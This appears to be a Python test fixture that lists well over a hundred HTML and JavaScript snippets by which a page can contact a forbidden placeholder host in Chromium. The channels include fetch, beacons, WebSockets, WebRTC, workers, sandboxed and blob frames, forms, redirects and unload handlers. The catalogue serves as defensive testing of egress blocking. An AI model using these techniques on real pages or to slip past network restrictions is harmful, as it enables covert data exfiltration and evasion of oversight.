"""The ways that a page has to send something to another host.

In each way, AWAY stands for an address of the forbidden host that names the way, HOST for that host with its
port, and HERE for the address of the way's own page. A way that needs the tab for itself is a `tab` way; all
others are played at once, in frames of one page.

Not here is what Chromium has no longer (portals, XSLT, shared storage, auctions), what it asks a person for
(picture-in-picture windows, what a link that is dragged into the tab bar opens), and protocol handlers, which
lead to the page's own origin.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Literal


@dataclass(frozen=True)
class Way:
    """One way of leaving."""

    html: str
    headers: Mapping[str, str] = field(default_factory=dict)
    """Of the answer with the page."""
    tab: bool = False
    """Whether it takes a tab for itself."""
    parts: Mapping[str, tuple[str, str]] = field(default_factory=dict)
    """What else is served below the page's address: name -> type and text."""
    document: bool = False
    """Whether it opens a document, which a list of allowed hosts forbids too."""
    heard: Literal["request", "datagram"] = "request"
    """As what the forbidden server hears of it where nothing is forbidden."""
    silent: str = ""
    """Why a headless Chromium on loopback does not do it; it is played for those that do."""
    said: bool = False
    """Whether it is not held in somebody's browser, and a run there says so."""


def script(code: str) -> str:
    return f"<script>{code}</script>"


def worker(kind: str, code: str) -> str:
    source = json.dumps(code)
    return script(f"new {kind}(URL.createObjectURL(new Blob([{source}], {{type: 'text/javascript'}})))")


def speculation(kind: str) -> str:
    rules = {kind: [{"urls": ["AWAY"], "eagerness": "immediate"}]}
    return f"<script type=speculationrules>{json.dumps(rules)}</script>"


JS = "text/javascript"
FETCH = "fetch('AWAY', {mode: 'no-cors'}).catch(() => 0);"
SOCKET = "try { new WebSocket('ws://HOST/NAME') } catch {};"
REGISTERED = (
    "navigator.serviceWorker.register('HERE/sw.js', {scope: 'HERE/'}).then(async r => {"
    " const one = r.installing || r.waiting || r.active;"
    " while (one.state !== 'activated')"
    " await new Promise(done => one.addEventListener('statechange', done, {once: true}));"
)
"""What follows is done once the service worker answers for pages below HERE."""
GOING = "".join(
    f"{target}.addEventListener('{event}', () => {{ navigator.sendBeacon('AWAY', 's');"
    " fetch('AWAY', {method: 'POST', body: 's', keepalive: true, mode: 'no-cors'}).catch(() => 0) });"
    for target, event in (("window", "pagehide"), ("window", "unload"), ("document", "visibilitychange"))
)
SUBMIT = script("document.forms[0].submit()")
CALL = (
    "const c = new realm.RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}, {urls: 'turn:HOST?transport=tcp',"
    " username: 'u', credential: 'p'}]}); c.createDataChannel('d');"
    " c.createOffer().then(o => c.setLocalDescription(o));"
)


def sandboxed(code: str) -> str:
    return f'<iframe sandbox=allow-scripts srcdoc="<script>{code}</script>"></iframe>'


def blob(code: str) -> str:
    source = json.dumps(f"<script>{code}</script>").replace("</", "<\\/")
    return f"URL.createObjectURL(new Blob([{source}], {{type: 'text/html'}}))"


def frame_of(address: str) -> str:
    return script(
        f"document.body.append(Object.assign(document.createElement('iframe'), {{src: {address}}}))"
    )


WAYS: Mapping[str, Way] = {
    "fetch": Way(script(FETCH)),
    "xhr": Way(script("const x = new XMLHttpRequest(); x.open('POST', 'AWAY'); x.send('s')")),
    "beacon": Way(script("navigator.sendBeacon('AWAY', 's')")),
    "keepalive": Way(script("fetch('AWAY', {method: 'POST', keepalive: true, mode: 'no-cors', body: 's'})")),
    "fetch-later": Way(script("self.fetchLater?.('AWAY', {activateAfter: 0})")),
    "image": Way("<img src=AWAY><img srcset='AWAY 1x'><picture><source srcset=AWAY><img></picture>"),
    "style": Way(
        "<link rel=stylesheet href=AWAY><style>@import 'AWAY'; @font-face {font-family: f; src: url(AWAY)}"
        " p {background: url(AWAY); font-family: f; cursor: url(AWAY), auto}</style><p>x"
    ),
    "script": Way("<script src=AWAY></script>"),
    "module": Way("<script type=module>import 'AWAY'</script>"),
    "dynamic-import": Way(script("import('AWAY').catch(() => 0)")),
    "media": Way("<video autoplay muted src=AWAY poster=AWAY></video><audio preload=auto src=AWAY></audio>"),
    "track": Way(
        "<video crossorigin src=HERE><track default kind=captions src=AWAY></video>"
        + script("document.querySelector('video').textTracks[0].mode = 'showing'")
    ),
    "object": Way("<object data=AWAY></object>", document=True),
    "embed": Way("<embed src=AWAY>", document=True),
    "svg": Way(
        "<svg><image href=AWAY /><filter id=f><feImage href=AWAY /></filter>"
        "<rect width=9 height=9 filter=url(#f) /></svg><svg><use href='AWAY#a' /></svg>"
    ),
    "icon": Way(script("document.head.innerHTML += '<link rel=icon href=AWAY>'"), tab=True),
    "manifest": Way(script("document.head.innerHTML += '<link rel=manifest href=AWAY>'"), tab=True),
    "base": Way("<base href=AWAY><img src='?NAME'>"),
    "prefetch": Way(
        "<link rel=prefetch href=AWAY><link rel=modulepreload href=AWAY>"
        "<link rel=preload as=script href=AWAY>"
    ),
    "preconnect": Way(
        "<link rel=preconnect href=AWAY><link rel=dns-prefetch href=AWAY>",
        silent="--disable-background-networking",
    ),
    "speculation-prefetch": Way(speculation("prefetch"), tab=True, document=True),
    "speculation-prerender": Way(speculation("prerender"), tab=True, document=True),
    "speculation-header": Way(
        "<p>x",
        {"Speculation-Rules": '"HERE/rules"'},
        tab=True,
        document=True,
        parts={
            "rules": (
                "application/speculationrules+json",
                '{"prefetch": [{"urls": ["AWAY"], "eagerness": "immediate"}]}',
            )
        },
    ),
    "link-header": Way("<p>x", {"Link": "<AWAY>; rel=preload; as=script, <AWAY>; rel=preconnect"}, tab=True),
    "early-hints": Way(
        "<p>x",
        {"Early": "<AWAY>; rel=preload; as=script, <AWAY>; rel=preconnect"},
        tab=True,
        silent="it is read from HTTP/2 only",
    ),
    "ping": Way("<a id=a ping=AWAY href=HERE/i target=f>x</a><iframe name=f></iframe>" + script("a.click()")),
    "ping-of-the-tab": Way("<a id=a ping=AWAY href=HERE/i>x</a>" + script("a.click()"), tab=True),
    "ping-of-an-area": Way(
        "<map name=m><area id=a ping=AWAY href=HERE/i target=f></map><img usemap='#m'><iframe name=f></iframe>"
        + script("a.click()")
    ),
    "attribution": Way(
        "<img src=HERE/i attributionsrc=AWAY><a id=a attributionsrc=AWAY href='#x'>x</a>"
        + script("a.click()"),
        silent="its reporters have to be enrolled",
    ),
    "csp-report": Way("<img src=HERE/i>", {"Content-Security-Policy": "img-src 'none'; report-uri AWAY"}),
    "report-endpoints": Way(
        "<img src=HERE/i>" + script("setTimeout(() => document.write('x'), 9)"),
        {
            "Content-Security-Policy": "img-src 'none'; report-to away",
            "Reporting-Endpoints": 'away="AWAY"',
            "Report-To": '{"group": "away", "max_age": 99, "endpoints": [{"url": "AWAY"}]}',
            "NEL": '{"report_to": "away", "max_age": 99, "success_fraction": 1.0}',
        },
        silent="it is read from HTTPS only",
    ),
    "event-source": Way(script("new EventSource('AWAY')")),
    "websocket": Way(
        script(
            SOCKET + "try { new WebSocket('ws://HOST/NAME').constructor('ws://HOST/NAME') } catch {};"
            "try { new (WebSocket.prototype.constructor)('ws://HOST/NAME') } catch {};"
            "const f = document.createElement('iframe'); document.body.append(f);"
            "try { new f.contentWindow.WebSocket('ws://HOST/NAME') } catch {};"
        )
    ),
    "websocket-stream": Way(script("try { new WebSocketStream('ws://HOST/NAME') } catch {}")),
    "web-transport": Way(
        script("try { new WebTransport('https://HOST/NAME').ready.catch(() => 0) } catch {}"),
        heard="datagram",
    ),
    "web-rtc": Way(script("const realm = self;" + CALL), heard="datagram"),
    "web-rtc-of-a-window": Way(
        script("const realm = open('about:blank');" + CALL), tab=True, heard="datagram"
    ),
    "web-rtc-without-opener": Way(
        "<a id=a href=HERE/other rel=noopener target=_blank>x</a>" + script("a.click()"),
        said=True,
        parts={"other": ("text/html", script("const realm = self;" + CALL))},
        heard="datagram",
    ),
    "web-rtc-of-a-sandbox": Way(sandboxed("const realm = self;" + CALL), heard="datagram", said=True),
    "web-transport-of-a-sandbox": Way(
        sandboxed("new WebTransport('https://HOST/NAME').ready.catch(() => 0)"), heard="datagram", said=True
    ),
    "worker": Way(worker("Worker", FETCH + SOCKET + "importScripts('AWAY')")),
    "nested-worker": Way(worker("Worker", worker("Worker", FETCH + SOCKET)[8:-9])),
    "shared-worker": Way(worker("SharedWorker", FETCH + SOCKET + "importScripts('AWAY')")),
    "service-worker": Way(
        script("navigator.serviceWorker.register('HERE/sw.js', {scope: 'HERE/'}).catch(() => 0)"),
        parts={"sw.js": (JS, FETCH + SOCKET + "try { importScripts('AWAY') } catch {}")},
    ),
    "worker-script": Way(
        script(
            "try { new Worker('AWAY') } catch {}; try { new SharedWorker('AWAY') } catch {};"
            "CSS.paintWorklet?.addModule('AWAY').catch(() => 0)"
        )
    ),
    "frame": Way(
        "<iframe src=AWAY></iframe><iframe src=HERE/leads></iframe>"
        "<iframe srcdoc='<meta http-equiv=refresh content=0;url=AWAY>'></iframe>"
        "<iframe src=\"javascript:location = 'AWAY'\"></iframe>"
        "<iframe src=\"data:text/html,<script>location = 'AWAY'</script>\"></iframe>"
        + script(
            "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["
            "\"<script>location = 'AWAY'<\\/script>\"], {type: 'text/html'})); document.body.append(f)"
        ),
        document=True,
    ),
    "sandboxed-frame": Way(
        f"<iframe sandbox=allow-scripts srcdoc=\"<script>{SOCKET}{FETCH}location = 'AWAY'</script>\">"
        "</iframe>",
        document=True,
    ),
    "other-process": Way(
        "<iframe src=OTHER></iframe>",
        document=True,
        parts={"other": ("text/html", script(SOCKET + FETCH + "location = 'AWAY'"))},
    ),
    "form": Way(
        "<form method=post action=AWAY target=f><input name=s value=s></form><iframe name=f></iframe>"
        + SUBMIT,
        document=True,
    ),
    "form-of-the-tab": Way(
        "<form method=post action=AWAY><input name=s value=s></form>" + SUBMIT, tab=True, document=True
    ),
    "form-window": Way(
        "<form method=post action=AWAY target=_blank></form>" + SUBMIT, tab=True, document=True
    ),
    "refresh": Way("<meta http-equiv=refresh content='0;url=AWAY'>", tab=True, document=True),
    "refresh-header": Way("<p>x", {"Refresh": "0;url=AWAY"}, tab=True, document=True),
    "redirects": Way(
        script(
            "for (const n of [301, 302, 303, 307, 308]) {"
            "fetch(`HERE/leads-${n}`, {mode: 'no-cors'}).catch(() => 0);"
            "document.body.append(Object.assign(document.createElement('iframe'), {src: `HERE/leads-${n}`})) }"
        ),
        document=True,
    ),
    "location": Way(script("location = 'AWAY'"), tab=True, document=True),
    "redirected": Way(script("location.replace('HERE/leads')"), tab=True, document=True),
    "history": Way(
        script(
            "setInterval(() => { location.href = 'AWAY'; navigation.navigate('AWAY').finished.catch(() => 0);"
            " history.back() }, 60)"
        ),
        tab=True,
        document=True,
    ),
    "windows": Way(
        script(
            "open('AWAY'); open('about:blank').location = 'AWAY'; open('AWAY', '_blank', 'noopener');"
            "open('HERE/leads'); open('javascript:location=\"AWAY\"')"
        ),
        tab=True,
        document=True,
    ),
    "blank-window": Way(
        script(
            "const w = open('about:blank'); w.fetch('AWAY', {mode: 'no-cors'}).catch(() => 0);"
            "try { new w.WebSocket('ws://HOST/NAME') } catch {};"
            "w.document.write('<img src=AWAY>')"
        ),
        tab=True,
    ),
    "window-noopener": Way(
        "<a id=a href=HERE/other rel=noopener target=_blank>x</a>" + script("a.click()"),
        said=True,
        parts={"other": ("text/html", script(FETCH + SOCKET))},
    ),
    "link-with-a-key": Way(
        "<a id=a href=AWAY>x</a>"
        + script(
            "for (const key of ['ctrlKey', 'shiftKey'])"
            " a.dispatchEvent(new MouseEvent('click', {[key]: true, cancelable: true}))"
        ),
        tab=True,
        document=True,
    ),
    "written-window": Way(
        script(
            "const w = open(''); w.document.write('<a id=a href=AWAY>x</a><form method=post action=AWAY target=_blank>"
            "</form>'); w.document.forms[0].submit(); w.document.getElementById('a').click()"
        ),
        tab=True,
        document=True,
    ),
    "window-of-a-window": Way(
        script("open('HERE/inner'); open('HERE/inner', '', 'noopener')"),
        tab=True,
        document=True,
        parts={"inner": ("text/html", script("open('AWAY'); location = 'AWAY'"))},
    ),
    "page-that-a-service-worker-sends-on": Way(
        script(REGISTERED + " location = 'HERE/page' })"),
        tab=True,
        document=True,
        parts={
            "sw.js": (
                JS,
                "onfetch = e => { if (e.request.url.endsWith('/page')) e.respondWith(Response.redirect('AWAY')) }",
            )
        },
    ),
    "download": Way("<a id=a download=x href=AWAY>x</a>" + script("a.click()"), tab=True),
    "unload": Way(script(GOING), tab=True),
    "unload-frame": Way(script(GOING)),
    "background-fetch": Way(
        script(
            "navigator.serviceWorker.register('HERE/sw.js', {scope: 'HERE/'}).then(async r => {"
            "await new Promise(done => setTimeout(done, 600)); await r.backgroundFetch.fetch('b', ['AWAY']) }).catch(() => 0)"
        ),
        parts={"sw.js": (JS, "onbackgroundfetchsuccess = () => 0")},
        tab=True,
    ),
    "payment": Way(
        script(
            "try { new PaymentRequest([{supportedMethods: 'AWAY'}], {total: {label: 't', amount:"
            " {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0) } catch {}"
        )
    ),
    "credential": Way(
        script(
            "navigator.credentials?.get({identity: {providers: [{configURL: 'AWAY', clientId: 'c'}]}})"
            ".catch(() => 0)"
        )
    ),
    "clear-site-data": Way(
        "<p>x",
        {"Clear-Site-Data": '"cache"', "SourceMap": "AWAY"},
        silent="only open developer tools ask for source maps",
    ),
    "view-source": Way(
        script("open('view-source:AWAY'); location = 'view-source:AWAY'"),
        tab=True,
        silent="pages may not open it",
    ),
    "input-image": Way("<input type=image src=AWAY>"),
    "background": Way("<table background=AWAY><tr><td background=AWAY>x</table>"),
    "image-set": Way(
        "<style>p {background: image-set(url(AWAY) 1x); mask-image: url(AWAY); border-image: url(AWAY) 1;"
        " list-style-image: url(AWAY); content: url(AWAY); shape-outside: url(AWAY)}</style><p>x"
    ),
    "image-object": Way(script("new Image().src = 'AWAY'")),
    "animated-image": Way("<svg><image><set attributeName=href to=AWAY begin=0s /></image></svg>"),
    "svg-script": Way("<svg><script href=AWAY /></svg>"),
    "svg-style": Way("<svg><style>@import 'AWAY';</style></svg>"),
    "svg-document": Way(
        "<object type='image/svg+xml' data=HERE/x.svg></object>",
        parts={
            "x.svg": (
                "image/svg+xml",
                f"<svg xmlns='http://www.w3.org/2000/svg'><script>{FETCH}{SOCKET}</script><image href='AWAY'/></svg>",
            )
        },
    ),
    "svg-link": Way(
        "<svg><a id=a href=AWAY target=f><text>x</text></a></svg><iframe name=f></iframe>"
        + script("document.querySelector('a').dispatchEvent(new MouseEvent('click', {cancelable: true}))"),
        document=True,
    ),
    "xml-stylesheet": Way(
        "<iframe src=HERE/x.xml></iframe>",
        parts={
            "x.xml": ("text/xml", "<?xml version='1.0'?><?xml-stylesheet href='AWAY' type='text/css'?><a/>")
        },
    ),
    "font-object": Way(script("new FontFace('f', 'url(AWAY)').load().catch(() => 0)")),
    "preloaded-image": Way("<link rel=preload as=image imagesrcset='AWAY 1x'>"),
    "dictionary": Way("<link rel=compression-dictionary href=AWAY>"),
    "import-map": Way(
        '<script type=importmap>{"imports": {"x": "AWAY"}}</script><script type=module>import "x"</script>'
    ),
    "json-module": Way("<script type=module>import 'AWAY' with {type: 'json'}</script>"),
    "css-module": Way("<script type=module>import 'AWAY' with {type: 'css'}</script>"),
    "audio-worklet": Way(
        script("new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('AWAY').catch(() => 0)")
    ),
    "paint-worklet": Way(script("CSS.paintWorklet.addModule('AWAY').catch(() => 0)")),
    "module-worker": Way(
        script(
            "new Worker(URL.createObjectURL(new Blob([\"import 'AWAY'\"], {type: 'text/javascript'})), {type: 'module'})"
        )
    ),
    "worker-xhr": Way(
        worker(
            "Worker",
            "const x = new XMLHttpRequest(); x.open('GET', 'AWAY'); x.send(); new EventSource('AWAY')",
        )
    ),
    "playlist": Way(
        "<video autoplay muted src=HERE/list.m3u8></video>",
        parts={
            "list.m3u8": (
                "application/vnd.apple.mpegurl",
                "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nAWAY\n#EXT-X-ENDLIST\n",
            )
        },
    ),
    "media-source": Way("<video autoplay muted><source src=AWAY type=video/mp4></video>"),
    "csp-report-only": Way(
        "<img src=HERE/i>", {"Content-Security-Policy-Report-Only": "img-src 'none'; report-uri AWAY"}
    ),
    "credentialless-frame": Way("<iframe credentialless src=AWAY></iframe>", document=True),
    "form-action": Way(
        "<form><button formaction=AWAY formtarget=f id=b>x</button></form><iframe name=f></iframe>"
        + script("b.click()"),
        document=True,
    ),
    "form-get": Way(
        "<form action=AWAY target=f><input name=s value=s></form><iframe name=f></iframe>"
        + script("document.forms[0].requestSubmit()"),
        document=True,
    ),
    "frame-takes-the-tab": Way(
        "<iframe src=HERE/inner></iframe>",
        tab=True,
        document=True,
        parts={"inner": ("text/html", script("top.location = 'AWAY'"))},
    ),
    "opener": Way(
        script("open('HERE/inner')"),
        tab=True,
        document=True,
        parts={"inner": ("text/html", script("opener.location = 'AWAY'"))},
    ),
    "navigation": Way(script("navigation.navigate('AWAY').finished.catch(() => 0)"), tab=True, document=True),
    "sandboxed-by-script": Way(
        script(
            "const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = "
            + json.dumps(f"<script>{SOCKET}</script>").replace("</", "<\\/")
            + "; document.body.append(f); for (const t = Date.now(); Date.now() - t < 200;);"
        )
    ),
    "sandboxed-later": Way(
        "<iframe id=f sandbox=allow-scripts></iframe>"
        + script(
            "setTimeout(() => { f.srcdoc = "
            + json.dumps(f"<script>{SOCKET}</script>").replace("</", "<\\/")
            + " }, 200)"
        )
    ),
    "sandboxed-data": Way(
        f'<iframe sandbox=allow-scripts src="data:text/html,<script>{SOCKET}</script>"></iframe>'
    ),
    "sandboxed-twice": Way(
        "<iframe sandbox=allow-scripts srcdoc=\"<iframe srcdoc='<script>new WebSocket(&quot;ws://HOST/NAME&quot;)"
        "</script>'></iframe>\"></iframe>"
    ),
    "data-frame": Way(f'<iframe src="data:text/html,<script>{SOCKET}{FETCH}</script>"></iframe>'),
    "blob-frame": Way(frame_of(blob(SOCKET + FETCH))),
    "blob-window": Way(script(f"open({blob(SOCKET + FETCH)})"), tab=True),
    "blob-window-noopener": Way(script(f"open({blob(SOCKET + FETCH)}, '_blank', 'noopener')"), said=True),
    "unload-image": Way(script("addEventListener('pagehide', () => { new Image().src = 'AWAY' })"), tab=True),
    "page-of-a-service-worker": Way(
        script(
            REGISTERED
            + " document.body.append(Object.assign(document.createElement('iframe'), {src: 'HERE/page'})) })"
        ),
        tab=True,
        parts={
            "sw.js": (
                JS,
                "onfetch = e => { if (e.request.url.endsWith('/page')) e.respondWith(new Response("
                + json.dumps(f"{script(SOCKET + FETCH)}{sandboxed(SOCKET)}")
                + ", {headers: {'Content-Type': 'text/html'}})) }",
            )
        },
    ),
}
"""By the name that stands in the path at which the forbidden server is asked."""


ALONE: Mapping[str, float] = {
    **{name: 0.4 for name in WAYS if name.startswith("speculation")},
    "background-fetch": 3.0,
    "page-of-a-service-worker": 3.0,
    "page-that-a-service-worker-sends-on": 3.0,
}
"""These are played in the tab that is in front, for so many seconds: Chromium loads nothing ahead for others, and
service workers take their time."""
_WINDOWS = [name for name, way in WAYS.items() if way.tab and name not in ALONE]
GROUPS: Mapping[str, list[str]] = {
    "frames": [name for name, way in WAYS.items() if not way.tab and not way.said],
    **{f"windows-{first + 1}": _WINDOWS[first::5] for first in range(5)},
    "said": [name for name, way in WAYS.items() if way.said],
    "spellings": [],
    "killed": [],
}
"""Pages that play many ways at once: in frames, in windows that are closed again, and by all spellings. The
last one goes on trying to leave."""
